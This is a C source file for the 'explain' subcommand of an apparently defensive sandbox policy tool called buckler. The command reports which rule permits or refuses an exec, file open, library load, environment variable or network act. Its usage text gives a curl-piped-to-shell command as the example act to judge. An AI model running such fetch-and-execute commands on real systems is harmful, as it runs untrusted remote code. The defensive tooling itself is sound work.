/* SPDX-License-Identifier: Apache-2.0 */
#include <errno.h>
#include <string.h>
#include <time.h>

#include "cli/cli.h"
#include "cli/gather.h"
#include "core/network.h"
#include "core/plan.h"

static const char usage[] =
	"Usage: buckler explain [OPTION]... POLICY exec PROGRAM [ARG]... | load FILE |\n"
	"                       code | env NAME[=VALUE] | open [--write] FILE |\n"
	"                       connect HOST [PORT] | listen ADDRESS PORT\n"
	"Says what a policy makes of one act, by which rule and why; when it is refused,\n"
	"which rule came nearest. Names are resolved here as buckler-init does: PATH,\n"
	"symbolic links, the #! line, the loader, multi-call programs.\n"
	"\n"
	"  --main            the program is the one that the platform starts\n"
	"  --parent FILE     the program that acts\n"
	"  --script FILE     PROGRAM is a script, FILE its interpreter\n"
	"  --no-resolve      names are absolute and final: nothing is looked up here\n"
	"  --sha256 HEX      hash of the file; --hash: compute it although no rule asks\n"
	"  --unchangeable    the function can change neither the file nor its folders\n"
	"  --format text|json\n"
	"\n"
	"Options stand before PROGRAM. In the modes alert and learn what no rule allows\n"
	"is let through with an event: verdict `alert` or `learned`, status 1.\n"
	"Exit status: 0 allowed, 1 not allowed by the rules, 2 an error.\n"
	"\n"
	"Example: buckler explain policy.yaml exec /bin/sh -c 'curl -L http://x | sh'\n";

enum { MAIN = 256, PARENT, SCRIPT, NO_RESOLVE, SHA256, HASH, UNCHANGEABLE, WRITE };

static const struct option options[] = {
	{ "main", no_argument, NULL, MAIN },
	{ "parent", required_argument, NULL, PARENT },
	{ "script", required_argument, NULL, SCRIPT },
	{ "no-resolve", no_argument, NULL, NO_RESOLVE },
	{ "sha256", required_argument, NULL, SHA256 },
	{ "hash", no_argument, NULL, HASH },
	{ "unchangeable", no_argument, NULL, UNCHANGEABLE },
	{ "write", no_argument, NULL, WRITE },
	{ "format", required_argument, NULL, 'f' },
	BK_CLI_OPTIONS_END
};

struct query {
	struct bk_gathered gathered;
	const char *policy_name, *verb, *parent;
	bool hash, write, json;
	struct bk_policy policy;
	struct bk_decision decision;
	const char *why;		/* instead of the decision's reason, where the policy is not asked at all */
	struct bk_endpoint endpoint;	/* connect, listen */
};

/* --- what is asked --- */

static bool ask_exec(struct query *q, int argc, char **argv)
{
	return bk_gather_exec(&q->gathered, argc, argv);
}

static bool ask_load(struct query *q, int argc, char **argv)
{
	(void)argc;
	return bk_gather_file(&q->gathered, BK_LIBRARIES, argv[0]);
}

static bool ask_code(struct query *q, int argc, char **argv)
{
	(void)argc, (void)argv;
	q->gathered.request.section = BK_GENERATED_CODE;
	return true;
}

static bool ask_env(struct query *q, int argc, char **argv)
{
	struct bk_gathered *g = &q->gathered;

	(void)argc;
	g->path = bk_strdup(argv[0]);
	g->request.section = BK_ENVIRONMENT;
	g->request.path = bk_text_of(g->path);
	if (!bk_injection_variable(g->request.path))
		q->why = "it is not held back: it brings no code into programs";
	return true;
}

/* Where the environment names the task root, as it does for the function (shim/files.c). */
static bool in_task_root(struct bk_text path)
{
	const char *lambda = getenv("LAMBDA_TASK_ROOT"), *azure = getenv("AzureWebJobsScriptRoot");
	struct bk_text root = bk_text_of(lambda ? lambda : azure ? azure : "");

	return root.len > 1 && bk_text_starts(path, root) && (path.len == root.len || path.at[root.len] == '/');
}

static bool ask_open(struct query *q, int argc, char **argv)
{
	(void)argc;
	if (!bk_gather_file(&q->gathered, q->write ? BK_WRITE : BK_READ, argv[0]))
		return false;
	if (in_task_root(q->gathered.request.path))
		q->gathered.request.flags |= BK_REQ_TASK_ROOT;
	return true;
}

/* --- the network --- */

static bool ask_network(struct query *q, enum bk_section section, int argc, char **argv)
{
	return bk_gather_host(&q->gathered, section, argv[0], argc > 1 ? argv[1] : NULL, &q->endpoint);
}

static bool ask_connect(struct query *q, int argc, char **argv)
{
	return ask_network(q, BK_CONNECT, argc, argv);
}

static bool ask_listen(struct query *q, int argc, char **argv)
{
	return ask_network(q, BK_LISTEN, argc, argv);
}

static const struct verb {
	const char *name;
	int least, most;		/* words behind the verb */
	bool (*ask)(struct query *q, int argc, char **argv);
} verbs[] = {
	{ "exec", 1, 65536, ask_exec },
	{ "load", 1, 1, ask_load },
	{ "code", 0, 0, ask_code },
	{ "env", 1, 1, ask_env },
	{ "open", 1, 1, ask_open },
	{ "connect", 1, 2, ask_connect },
	{ "listen", 1, 2, ask_listen },
};

static const struct verb *find_verb(const char *name)
{
	for (size_t i = 0; i < sizeof verbs / sizeof *verbs; i++)
		if (strcmp(verbs[i].name, name) == 0)
			return &verbs[i];
	return NULL;
}

/* --- the answer --- */

static void quote(struct bk_buf *to, struct bk_text text)
{
	bk_buf_text(to, "\"");
	for (uint32_t i = 0; i < text.len; i++) {
		if (text.at[i] == '"' || text.at[i] == '\\')
			bk_buf_text(to, "\\");
		bk_buf_add(to, text.at + i, 1);
	}
	bk_buf_text(to, "\"");
}

static void add_field(const struct query *q, struct bk_buf *to, const char *name, uint32_t offset)
{
	if (!offset)
		return;
	bk_buf_printf(to, ", %s: ", name);
	quote(to, bk_policy_text(&q->policy, offset));
}

static void add_args(const struct query *q, struct bk_buf *to, uint32_t list)
{
	if (!list)
		return;
	bk_buf_text(to, ", args: [");
	for (uint32_t i = 0; i < bk_policy_list_count(&q->policy, list); i++) {
		bk_buf_text(to, i ? ", " : "");
		quote(to, bk_policy_list_item(&q->policy, list, i));
	}
	bk_buf_text(to, "]");
}

static void add_hash(const struct query *q, struct bk_buf *to, uint32_t offset)
{
	const uint8_t *hash = offset ? bk_policy_hash(&q->policy, offset) : NULL;
	char hex[65];

	if (!hash)
		return;
	bk_hex(hash, 32, hex);
	bk_buf_printf(to, ", sha256: %s", hex);
}

static void add_endpoint(const struct query *q, struct bk_buf *to, uint32_t offset)
{
	const struct bk_endpoint *e = offset ? bk_policy_endpoint(&q->policy, offset) : NULL;
	char text[BK_ADDRESS_TEXT];

	if (!e)
		return;
	if (e->family && e->family != BK_UNIX) {
		bk_address_text(e, text);
		bk_buf_printf(to, "%s", text);
	}
	if ((e->family == BK_INET && e->prefix != 32) || (e->family == BK_INET6 && e->prefix != 128))
		bk_buf_printf(to, "/%u", e->prefix);
	if (e->family != BK_UNIX && e->port_low == e->port_high)
		bk_buf_printf(to, " port %u", e->port_low);
	else if (e->family != BK_UNIX && (e->port_low || e->port_high != 65535))
		bk_buf_printf(to, " ports %u-%u", e->port_low, e->port_high);
}

static void rule_text(const struct query *q, const struct bk_rule *r, struct bk_buf *to)
{
	struct bk_text path = bk_policy_text(&q->policy, r->path);

	bk_buf_printf(to, "%s %.*s", r->flags & BK_RULE_MAIN ? "main" : bk_action_name((enum bk_action)r->action), (int)path.len, path.at);
	add_args(q, to, r->args);
	add_field(q, to, "shell", r->shell);
	add_field(q, to, "parent", r->parent);
	add_field(q, to, "applet", r->applet);
	add_hash(q, to, r->sha256);
	add_endpoint(q, to, r->endpoint);
}

static bool is_nearest(const struct query *q)
{
	return q->decision.reason != BK_WHY_RULE && q->decision.reason != BK_WHY_ALLOWED;
}

static const char *mode_of(const struct query *q)
{
	return bk_mode_name(bk_policy_mode(&q->policy, q->gathered.request.section));
}

static void print_line(const char *name, const char *text, size_t size)
{
	printf("  %-9s", name);
	bk_cli_put(stdout, text, size);
	putchar('\n');
}

static void print_rule(const struct query *q, const struct bk_rule *r)
{
	BK_BUF text = { 0 };

	if (r->line)
		bk_buf_printf(&text, "%s line %u: ", q->policy_name, r->line);
	rule_text(q, r, &text);
	print_line(is_nearest(q) ? "nearest" : "rule", text.at, text.len);
}

static void print_vector(const struct bk_args *argv)
{
	BK_BUF text = { 0 };

	for (uint32_t i = 0; i < argv->count; i++) {
		bk_buf_text(&text, i ? " " : "");
		quote(&text, bk_args_get(argv, i));
	}
	print_line("argv", text.at, text.len);
}

static void print_notes(const struct bk_buf *notes)
{
	for (const char *at = notes->at, *end; at && (end = strchr(at, '\n')); at = end + 1)
		print_line("note", at, (size_t)(end - at));
}

static void print_verdict(const struct query *q)
{
	const char *verdict = bk_verdict_name(q->decision.verdict), *path = q->gathered.path;
	bool colour = bk_cli_colour(stdout);

	fputs(!colour ? "" : q->decision.verdict == BK_ALLOWED ? "\033[1;32m" : "\033[1;31m", stdout);
	printf("%s%s %s", verdict, colour ? "\033[0m" : "", q->verb);
	if (path) {
		putchar(' ');
		bk_cli_put(stdout, path, strlen(path));
	}
	printf(" (%s, mode %s)\n", bk_section_name(q->gathered.request.section), mode_of(q));
}

static const char *why_of(const struct query *q)
{
	return q->why ? q->why : bk_reason_text(q->decision.reason);
}

static int print_text(const struct query *q)
{
	const struct bk_request *r = &q->gathered.request;
	const char *why = why_of(q);
	const struct bk_rule *rule = bk_policy_rule(&q->policy, q->decision.rule);
	char hex[65];

	print_verdict(q);
	print_line("why", why, strlen(why));
	if (rule)
		print_rule(q, rule);
	if (r->interpreter.len)
		print_line("by", r->interpreter.at, r->interpreter.len);
	if (r->section == BK_PROCESSES)
		print_vector(&r->argv);
	if (r->sha256) {
		bk_hex(r->sha256, 32, hex);
		print_line("sha256", hex, 64);
	}
	print_notes(&q->gathered.notes);
	return 0;
}

static json_t *text_json(struct bk_text t)
{
	return bk_cli_json_text(t.at, t.len);
}

static json_t *rule_json(const struct query *q, const struct bk_rule *r)
{
	BK_BUF text = { 0 };
	json_t *to = json_object();

	rule_text(q, r, &text);
	if (r->line)
		json_object_set_new(to, "line", json_integer(r->line));
	json_object_set_new(to, "action", json_string(bk_action_name((enum bk_action)r->action)));
	json_object_set_new(to, "path", text_json(bk_policy_text(&q->policy, r->path)));
	json_object_set_new(to, "text", bk_cli_json_text(text.at, text.len));
	return to;
}

static json_t *notes_json(const struct bk_buf *notes)
{
	json_t *list = json_array();

	for (const char *at = notes->at, *end; at && (end = strchr(at, '\n')); at = end + 1)
		json_array_append_new(list, bk_cli_json_text(at, (size_t)(end - at)));
	return list;
}

static json_t *vector_json(const struct bk_args *argv)
{
	json_t *list = json_array();

	for (uint32_t i = 0; i < argv->count; i++)
		json_array_append_new(list, text_json(bk_args_get(argv, i)));
	return list;
}

static int print_json(const struct query *q)
{
	const struct bk_request *r = &q->gathered.request;
	const struct bk_rule *rule = bk_policy_rule(&q->policy, q->decision.rule);
	json_t *all = json_object();
	char hex[65];

	json_object_set_new(all, "verdict", json_string(bk_verdict_name(q->decision.verdict)));
	json_object_set_new(all, "section", json_string(bk_section_name(r->section)));
	json_object_set_new(all, "mode", json_string(mode_of(q)));
	json_object_set_new(all, "why", json_string(why_of(q)));
	if (q->gathered.path)
		json_object_set_new(all, "path", text_json(r->path));
	if (r->interpreter.len)
		json_object_set_new(all, "interpreter", text_json(r->interpreter));
	if (r->section == BK_PROCESSES)
		json_object_set_new(all, "argv", vector_json(&r->argv));
	if (r->sha256) {
		bk_hex(r->sha256, 32, hex);
		json_object_set_new(all, "sha256", json_string(hex));
	}
	if (rule)
		json_object_set_new(all, is_nearest(q) ? "nearest" : "rule", rule_json(q, rule));
	json_object_set_new(all, "notes", notes_json(&q->gathered.notes));
	return bk_cli_json_print(all);
}

/* --- the command --- */

static bool load(struct query *q, struct bk_buf *bytes)
{
	struct bk_diags d = { 0 };
	bool good = bk_policy_load(q->policy_name, bytes, &d) && bk_cli_verify(q->policy_name, bytes, &q->policy, &d);

	bk_cli_report(&d);
	bk_diags_free(&d);
	return good;
}

static void note_expiry(struct query *q)
{
	if (q->policy.head->expires && (uint64_t)time(NULL) >= q->policy.head->expires)
		bk_buf_text(&q->gathered.notes, "the policy has expired: buckler-init refuses it\n");
}

/* What even a place that offers everything would not judge. */
static void note_unjudged(struct query *q)
{
	const struct bk_place best = { .offers = UINT32_MAX, .landlock = UINT32_MAX };
	enum bk_section section = q->gathered.request.section;
	struct bk_plan plan;

	bk_plan_make(&q->policy, &best, &plan);
	if (plan.status[section] == BK_UNAVAILABLE)
		bk_buf_printf(&q->gathered.notes, "buckler-init " BK_VERSION " does not judge %s in any place\n", bk_section_name(section));
}

static bool takes_port(const struct query *q, const struct bk_rule *r)
{
	const struct bk_endpoint *e = bk_policy_endpoint(&q->policy, r->endpoint);

	return !e || (e->family == 0 && e->port_low <= q->endpoint.port_low && q->endpoint.port_low <= e->port_high);
}

/* Which names an address has is known in the place of the function alone. */
static void note_names(struct query *q)
{
	const struct bk_rule *r;

	for (uint32_t i = 0; (r = bk_policy_rule(&q->policy, i)); i++) {
		struct bk_text name = bk_policy_text(&q->policy, r->path);

		if (r->section != BK_CONNECT || r->action != BK_ALLOW || !r->path || !takes_port(q, r))
			continue;
		bk_buf_printf(&q->gathered.notes, "the rule for the domain %.*s allows it where /etc/hosts or the resolver gave that name this address: "
			      "ask about the name\n", (int)name.len, name.at);
		return;
	}
}

static bool may_have_name(const struct bk_endpoint *e)
{
	return (e->family == BK_INET || e->family == BK_INET6) && !bk_address_is_metadata(e);
}

static void note_network(struct query *q)
{
	const struct bk_endpoint *e = q->gathered.request.endpoint;

	if (!e || q->decision.verdict == BK_ALLOWED)
		return;
	if (e->family == BK_NETLINK)
		bk_buf_text(&q->gathered.notes, "netlink for routing (NETLINK_ROUTE) is let through whatever the rules say: it only tells of this host\n");
	else if (q->gathered.request.section == BK_CONNECT && q->decision.reason != BK_WHY_RULE && may_have_name(e))
		note_names(q);
}

/* As whom the function will run is not known here. */
static void note_script(struct query *q)
{
	if (q->decision.reason == BK_WHY_INTERPRETER && !(q->gathered.request.flags & (BK_REQ_UNCHANGEABLE | BK_REQ_LOADER)))
		bk_buf_text(&q->gathered.notes, "that the function can change the script is assumed: --unchangeable asks the other way\n");
}

static bool decide(struct query *q)
{
	struct bk_gathered *g = &q->gathered;

	if (q->why) {
		q->decision = (struct bk_decision){ BK_ALLOWED, BK_WHY_ALLOWED, UINT32_MAX };
		return true;
	}
	if (q->hash && !g->request.sha256 && !bk_gather_hash(g))
		return false;
	q->decision = bk_decide_written(&q->policy, &g->request, BK_ENFORCE);
	if (q->decision.verdict != BK_NEED_SHA256)
		return true;
	if (!bk_gather_hash(g))
		return false;
	q->decision = bk_decide(&q->policy, &g->request, BK_ENFORCE);
	return true;
}

static int explain(struct query *q, const struct verb *verb, int argc, char **argv)
{
	BK_BUF bytes = { 0 };

	if (!load(q, &bytes))
		return 2;
	if ((q->parent && !bk_gather_parent(&q->gathered, q->parent)) || !verb->ask(q, argc, argv) || !decide(q))
		return bk_cli_error("%s", q->gathered.error);
	note_script(q);
	note_network(q);
	note_expiry(q);
	note_unjudged(q);

	int printed = q->json ? print_json(q) : print_text(q);
	return printed ? printed : q->decision.verdict == BK_ALLOWED ? 0 : 1;
}

static void take_hash(struct query *q, const char *hex)
{
	if (strlen(hex) != 64 || !bk_unhex(hex, q->gathered.sha256, 32))
		exit(bk_cli_usage(&bk_cmd_explain, "--sha256 takes 64 hex digits, not", hex));
	q->gathered.request.sha256 = q->gathered.sha256;
}

static void take_option(struct query *q, int c)
{
	switch (c) {
	case MAIN:         q->gathered.request.flags |= BK_REQ_MAIN; break;
	case UNCHANGEABLE: q->gathered.request.flags |= BK_REQ_UNCHANGEABLE; break;
	case PARENT:       q->parent = optarg; break;
	case SCRIPT:       q->gathered.script_interpreter = optarg; break;
	case NO_RESOLVE:   q->gathered.as_is = true; break;
	case SHA256:       take_hash(q, optarg); break;
	case HASH:         q->hash = true; break;
	case WRITE:        q->write = true; break;
	default:           q->json = bk_cli_format(&bk_cmd_explain, optarg); break;
	}
}

/* Options may stand before the policy, before the verb and before what it is about; behind that they belong to the program. */
static const char *next_word(struct query *q, int argc, char **argv)
{
	for (int c; (c = bk_cli_option(&bk_cmd_explain, argc, argv, "+:hf:", options)) != -1; )
		take_option(q, c);
	return optind < argc ? argv[optind] : NULL;
}

static int run(int argc, char **argv)
{
	struct query q = { 0 };

	q.policy_name = next_word(&q, argc, argv);
	if (!q.policy_name)
		return bk_cli_usage(&bk_cmd_explain, "name the policy, then what to ask about", NULL);
	optind++;
	q.verb = next_word(&q, argc, argv);
	if (!q.verb)
		return bk_cli_usage(&bk_cmd_explain, "say what to ask about: exec, load, code, env, open, connect or listen", NULL);
	optind++;
	next_word(&q, argc, argv);

	const struct verb *verb = find_verb(q.verb);
	int words = argc - optind;
	if (!verb)
		return bk_cli_usage(&bk_cmd_explain, "ask about exec, load, code, env, open, connect or listen, not", q.verb);
	if (words < verb->least || words > verb->most)
		return bk_cli_usage(&bk_cmd_explain, words < verb->least ? "nothing was named behind" : "too many words behind", q.verb);

	int status = explain(&q, verb, words, argv + optind);
	bk_gathered_free(&q.gathered);
	return status;
}

const struct bk_command bk_cmd_explain = { "explain", "which rule decides about one act, and why", usage, run };
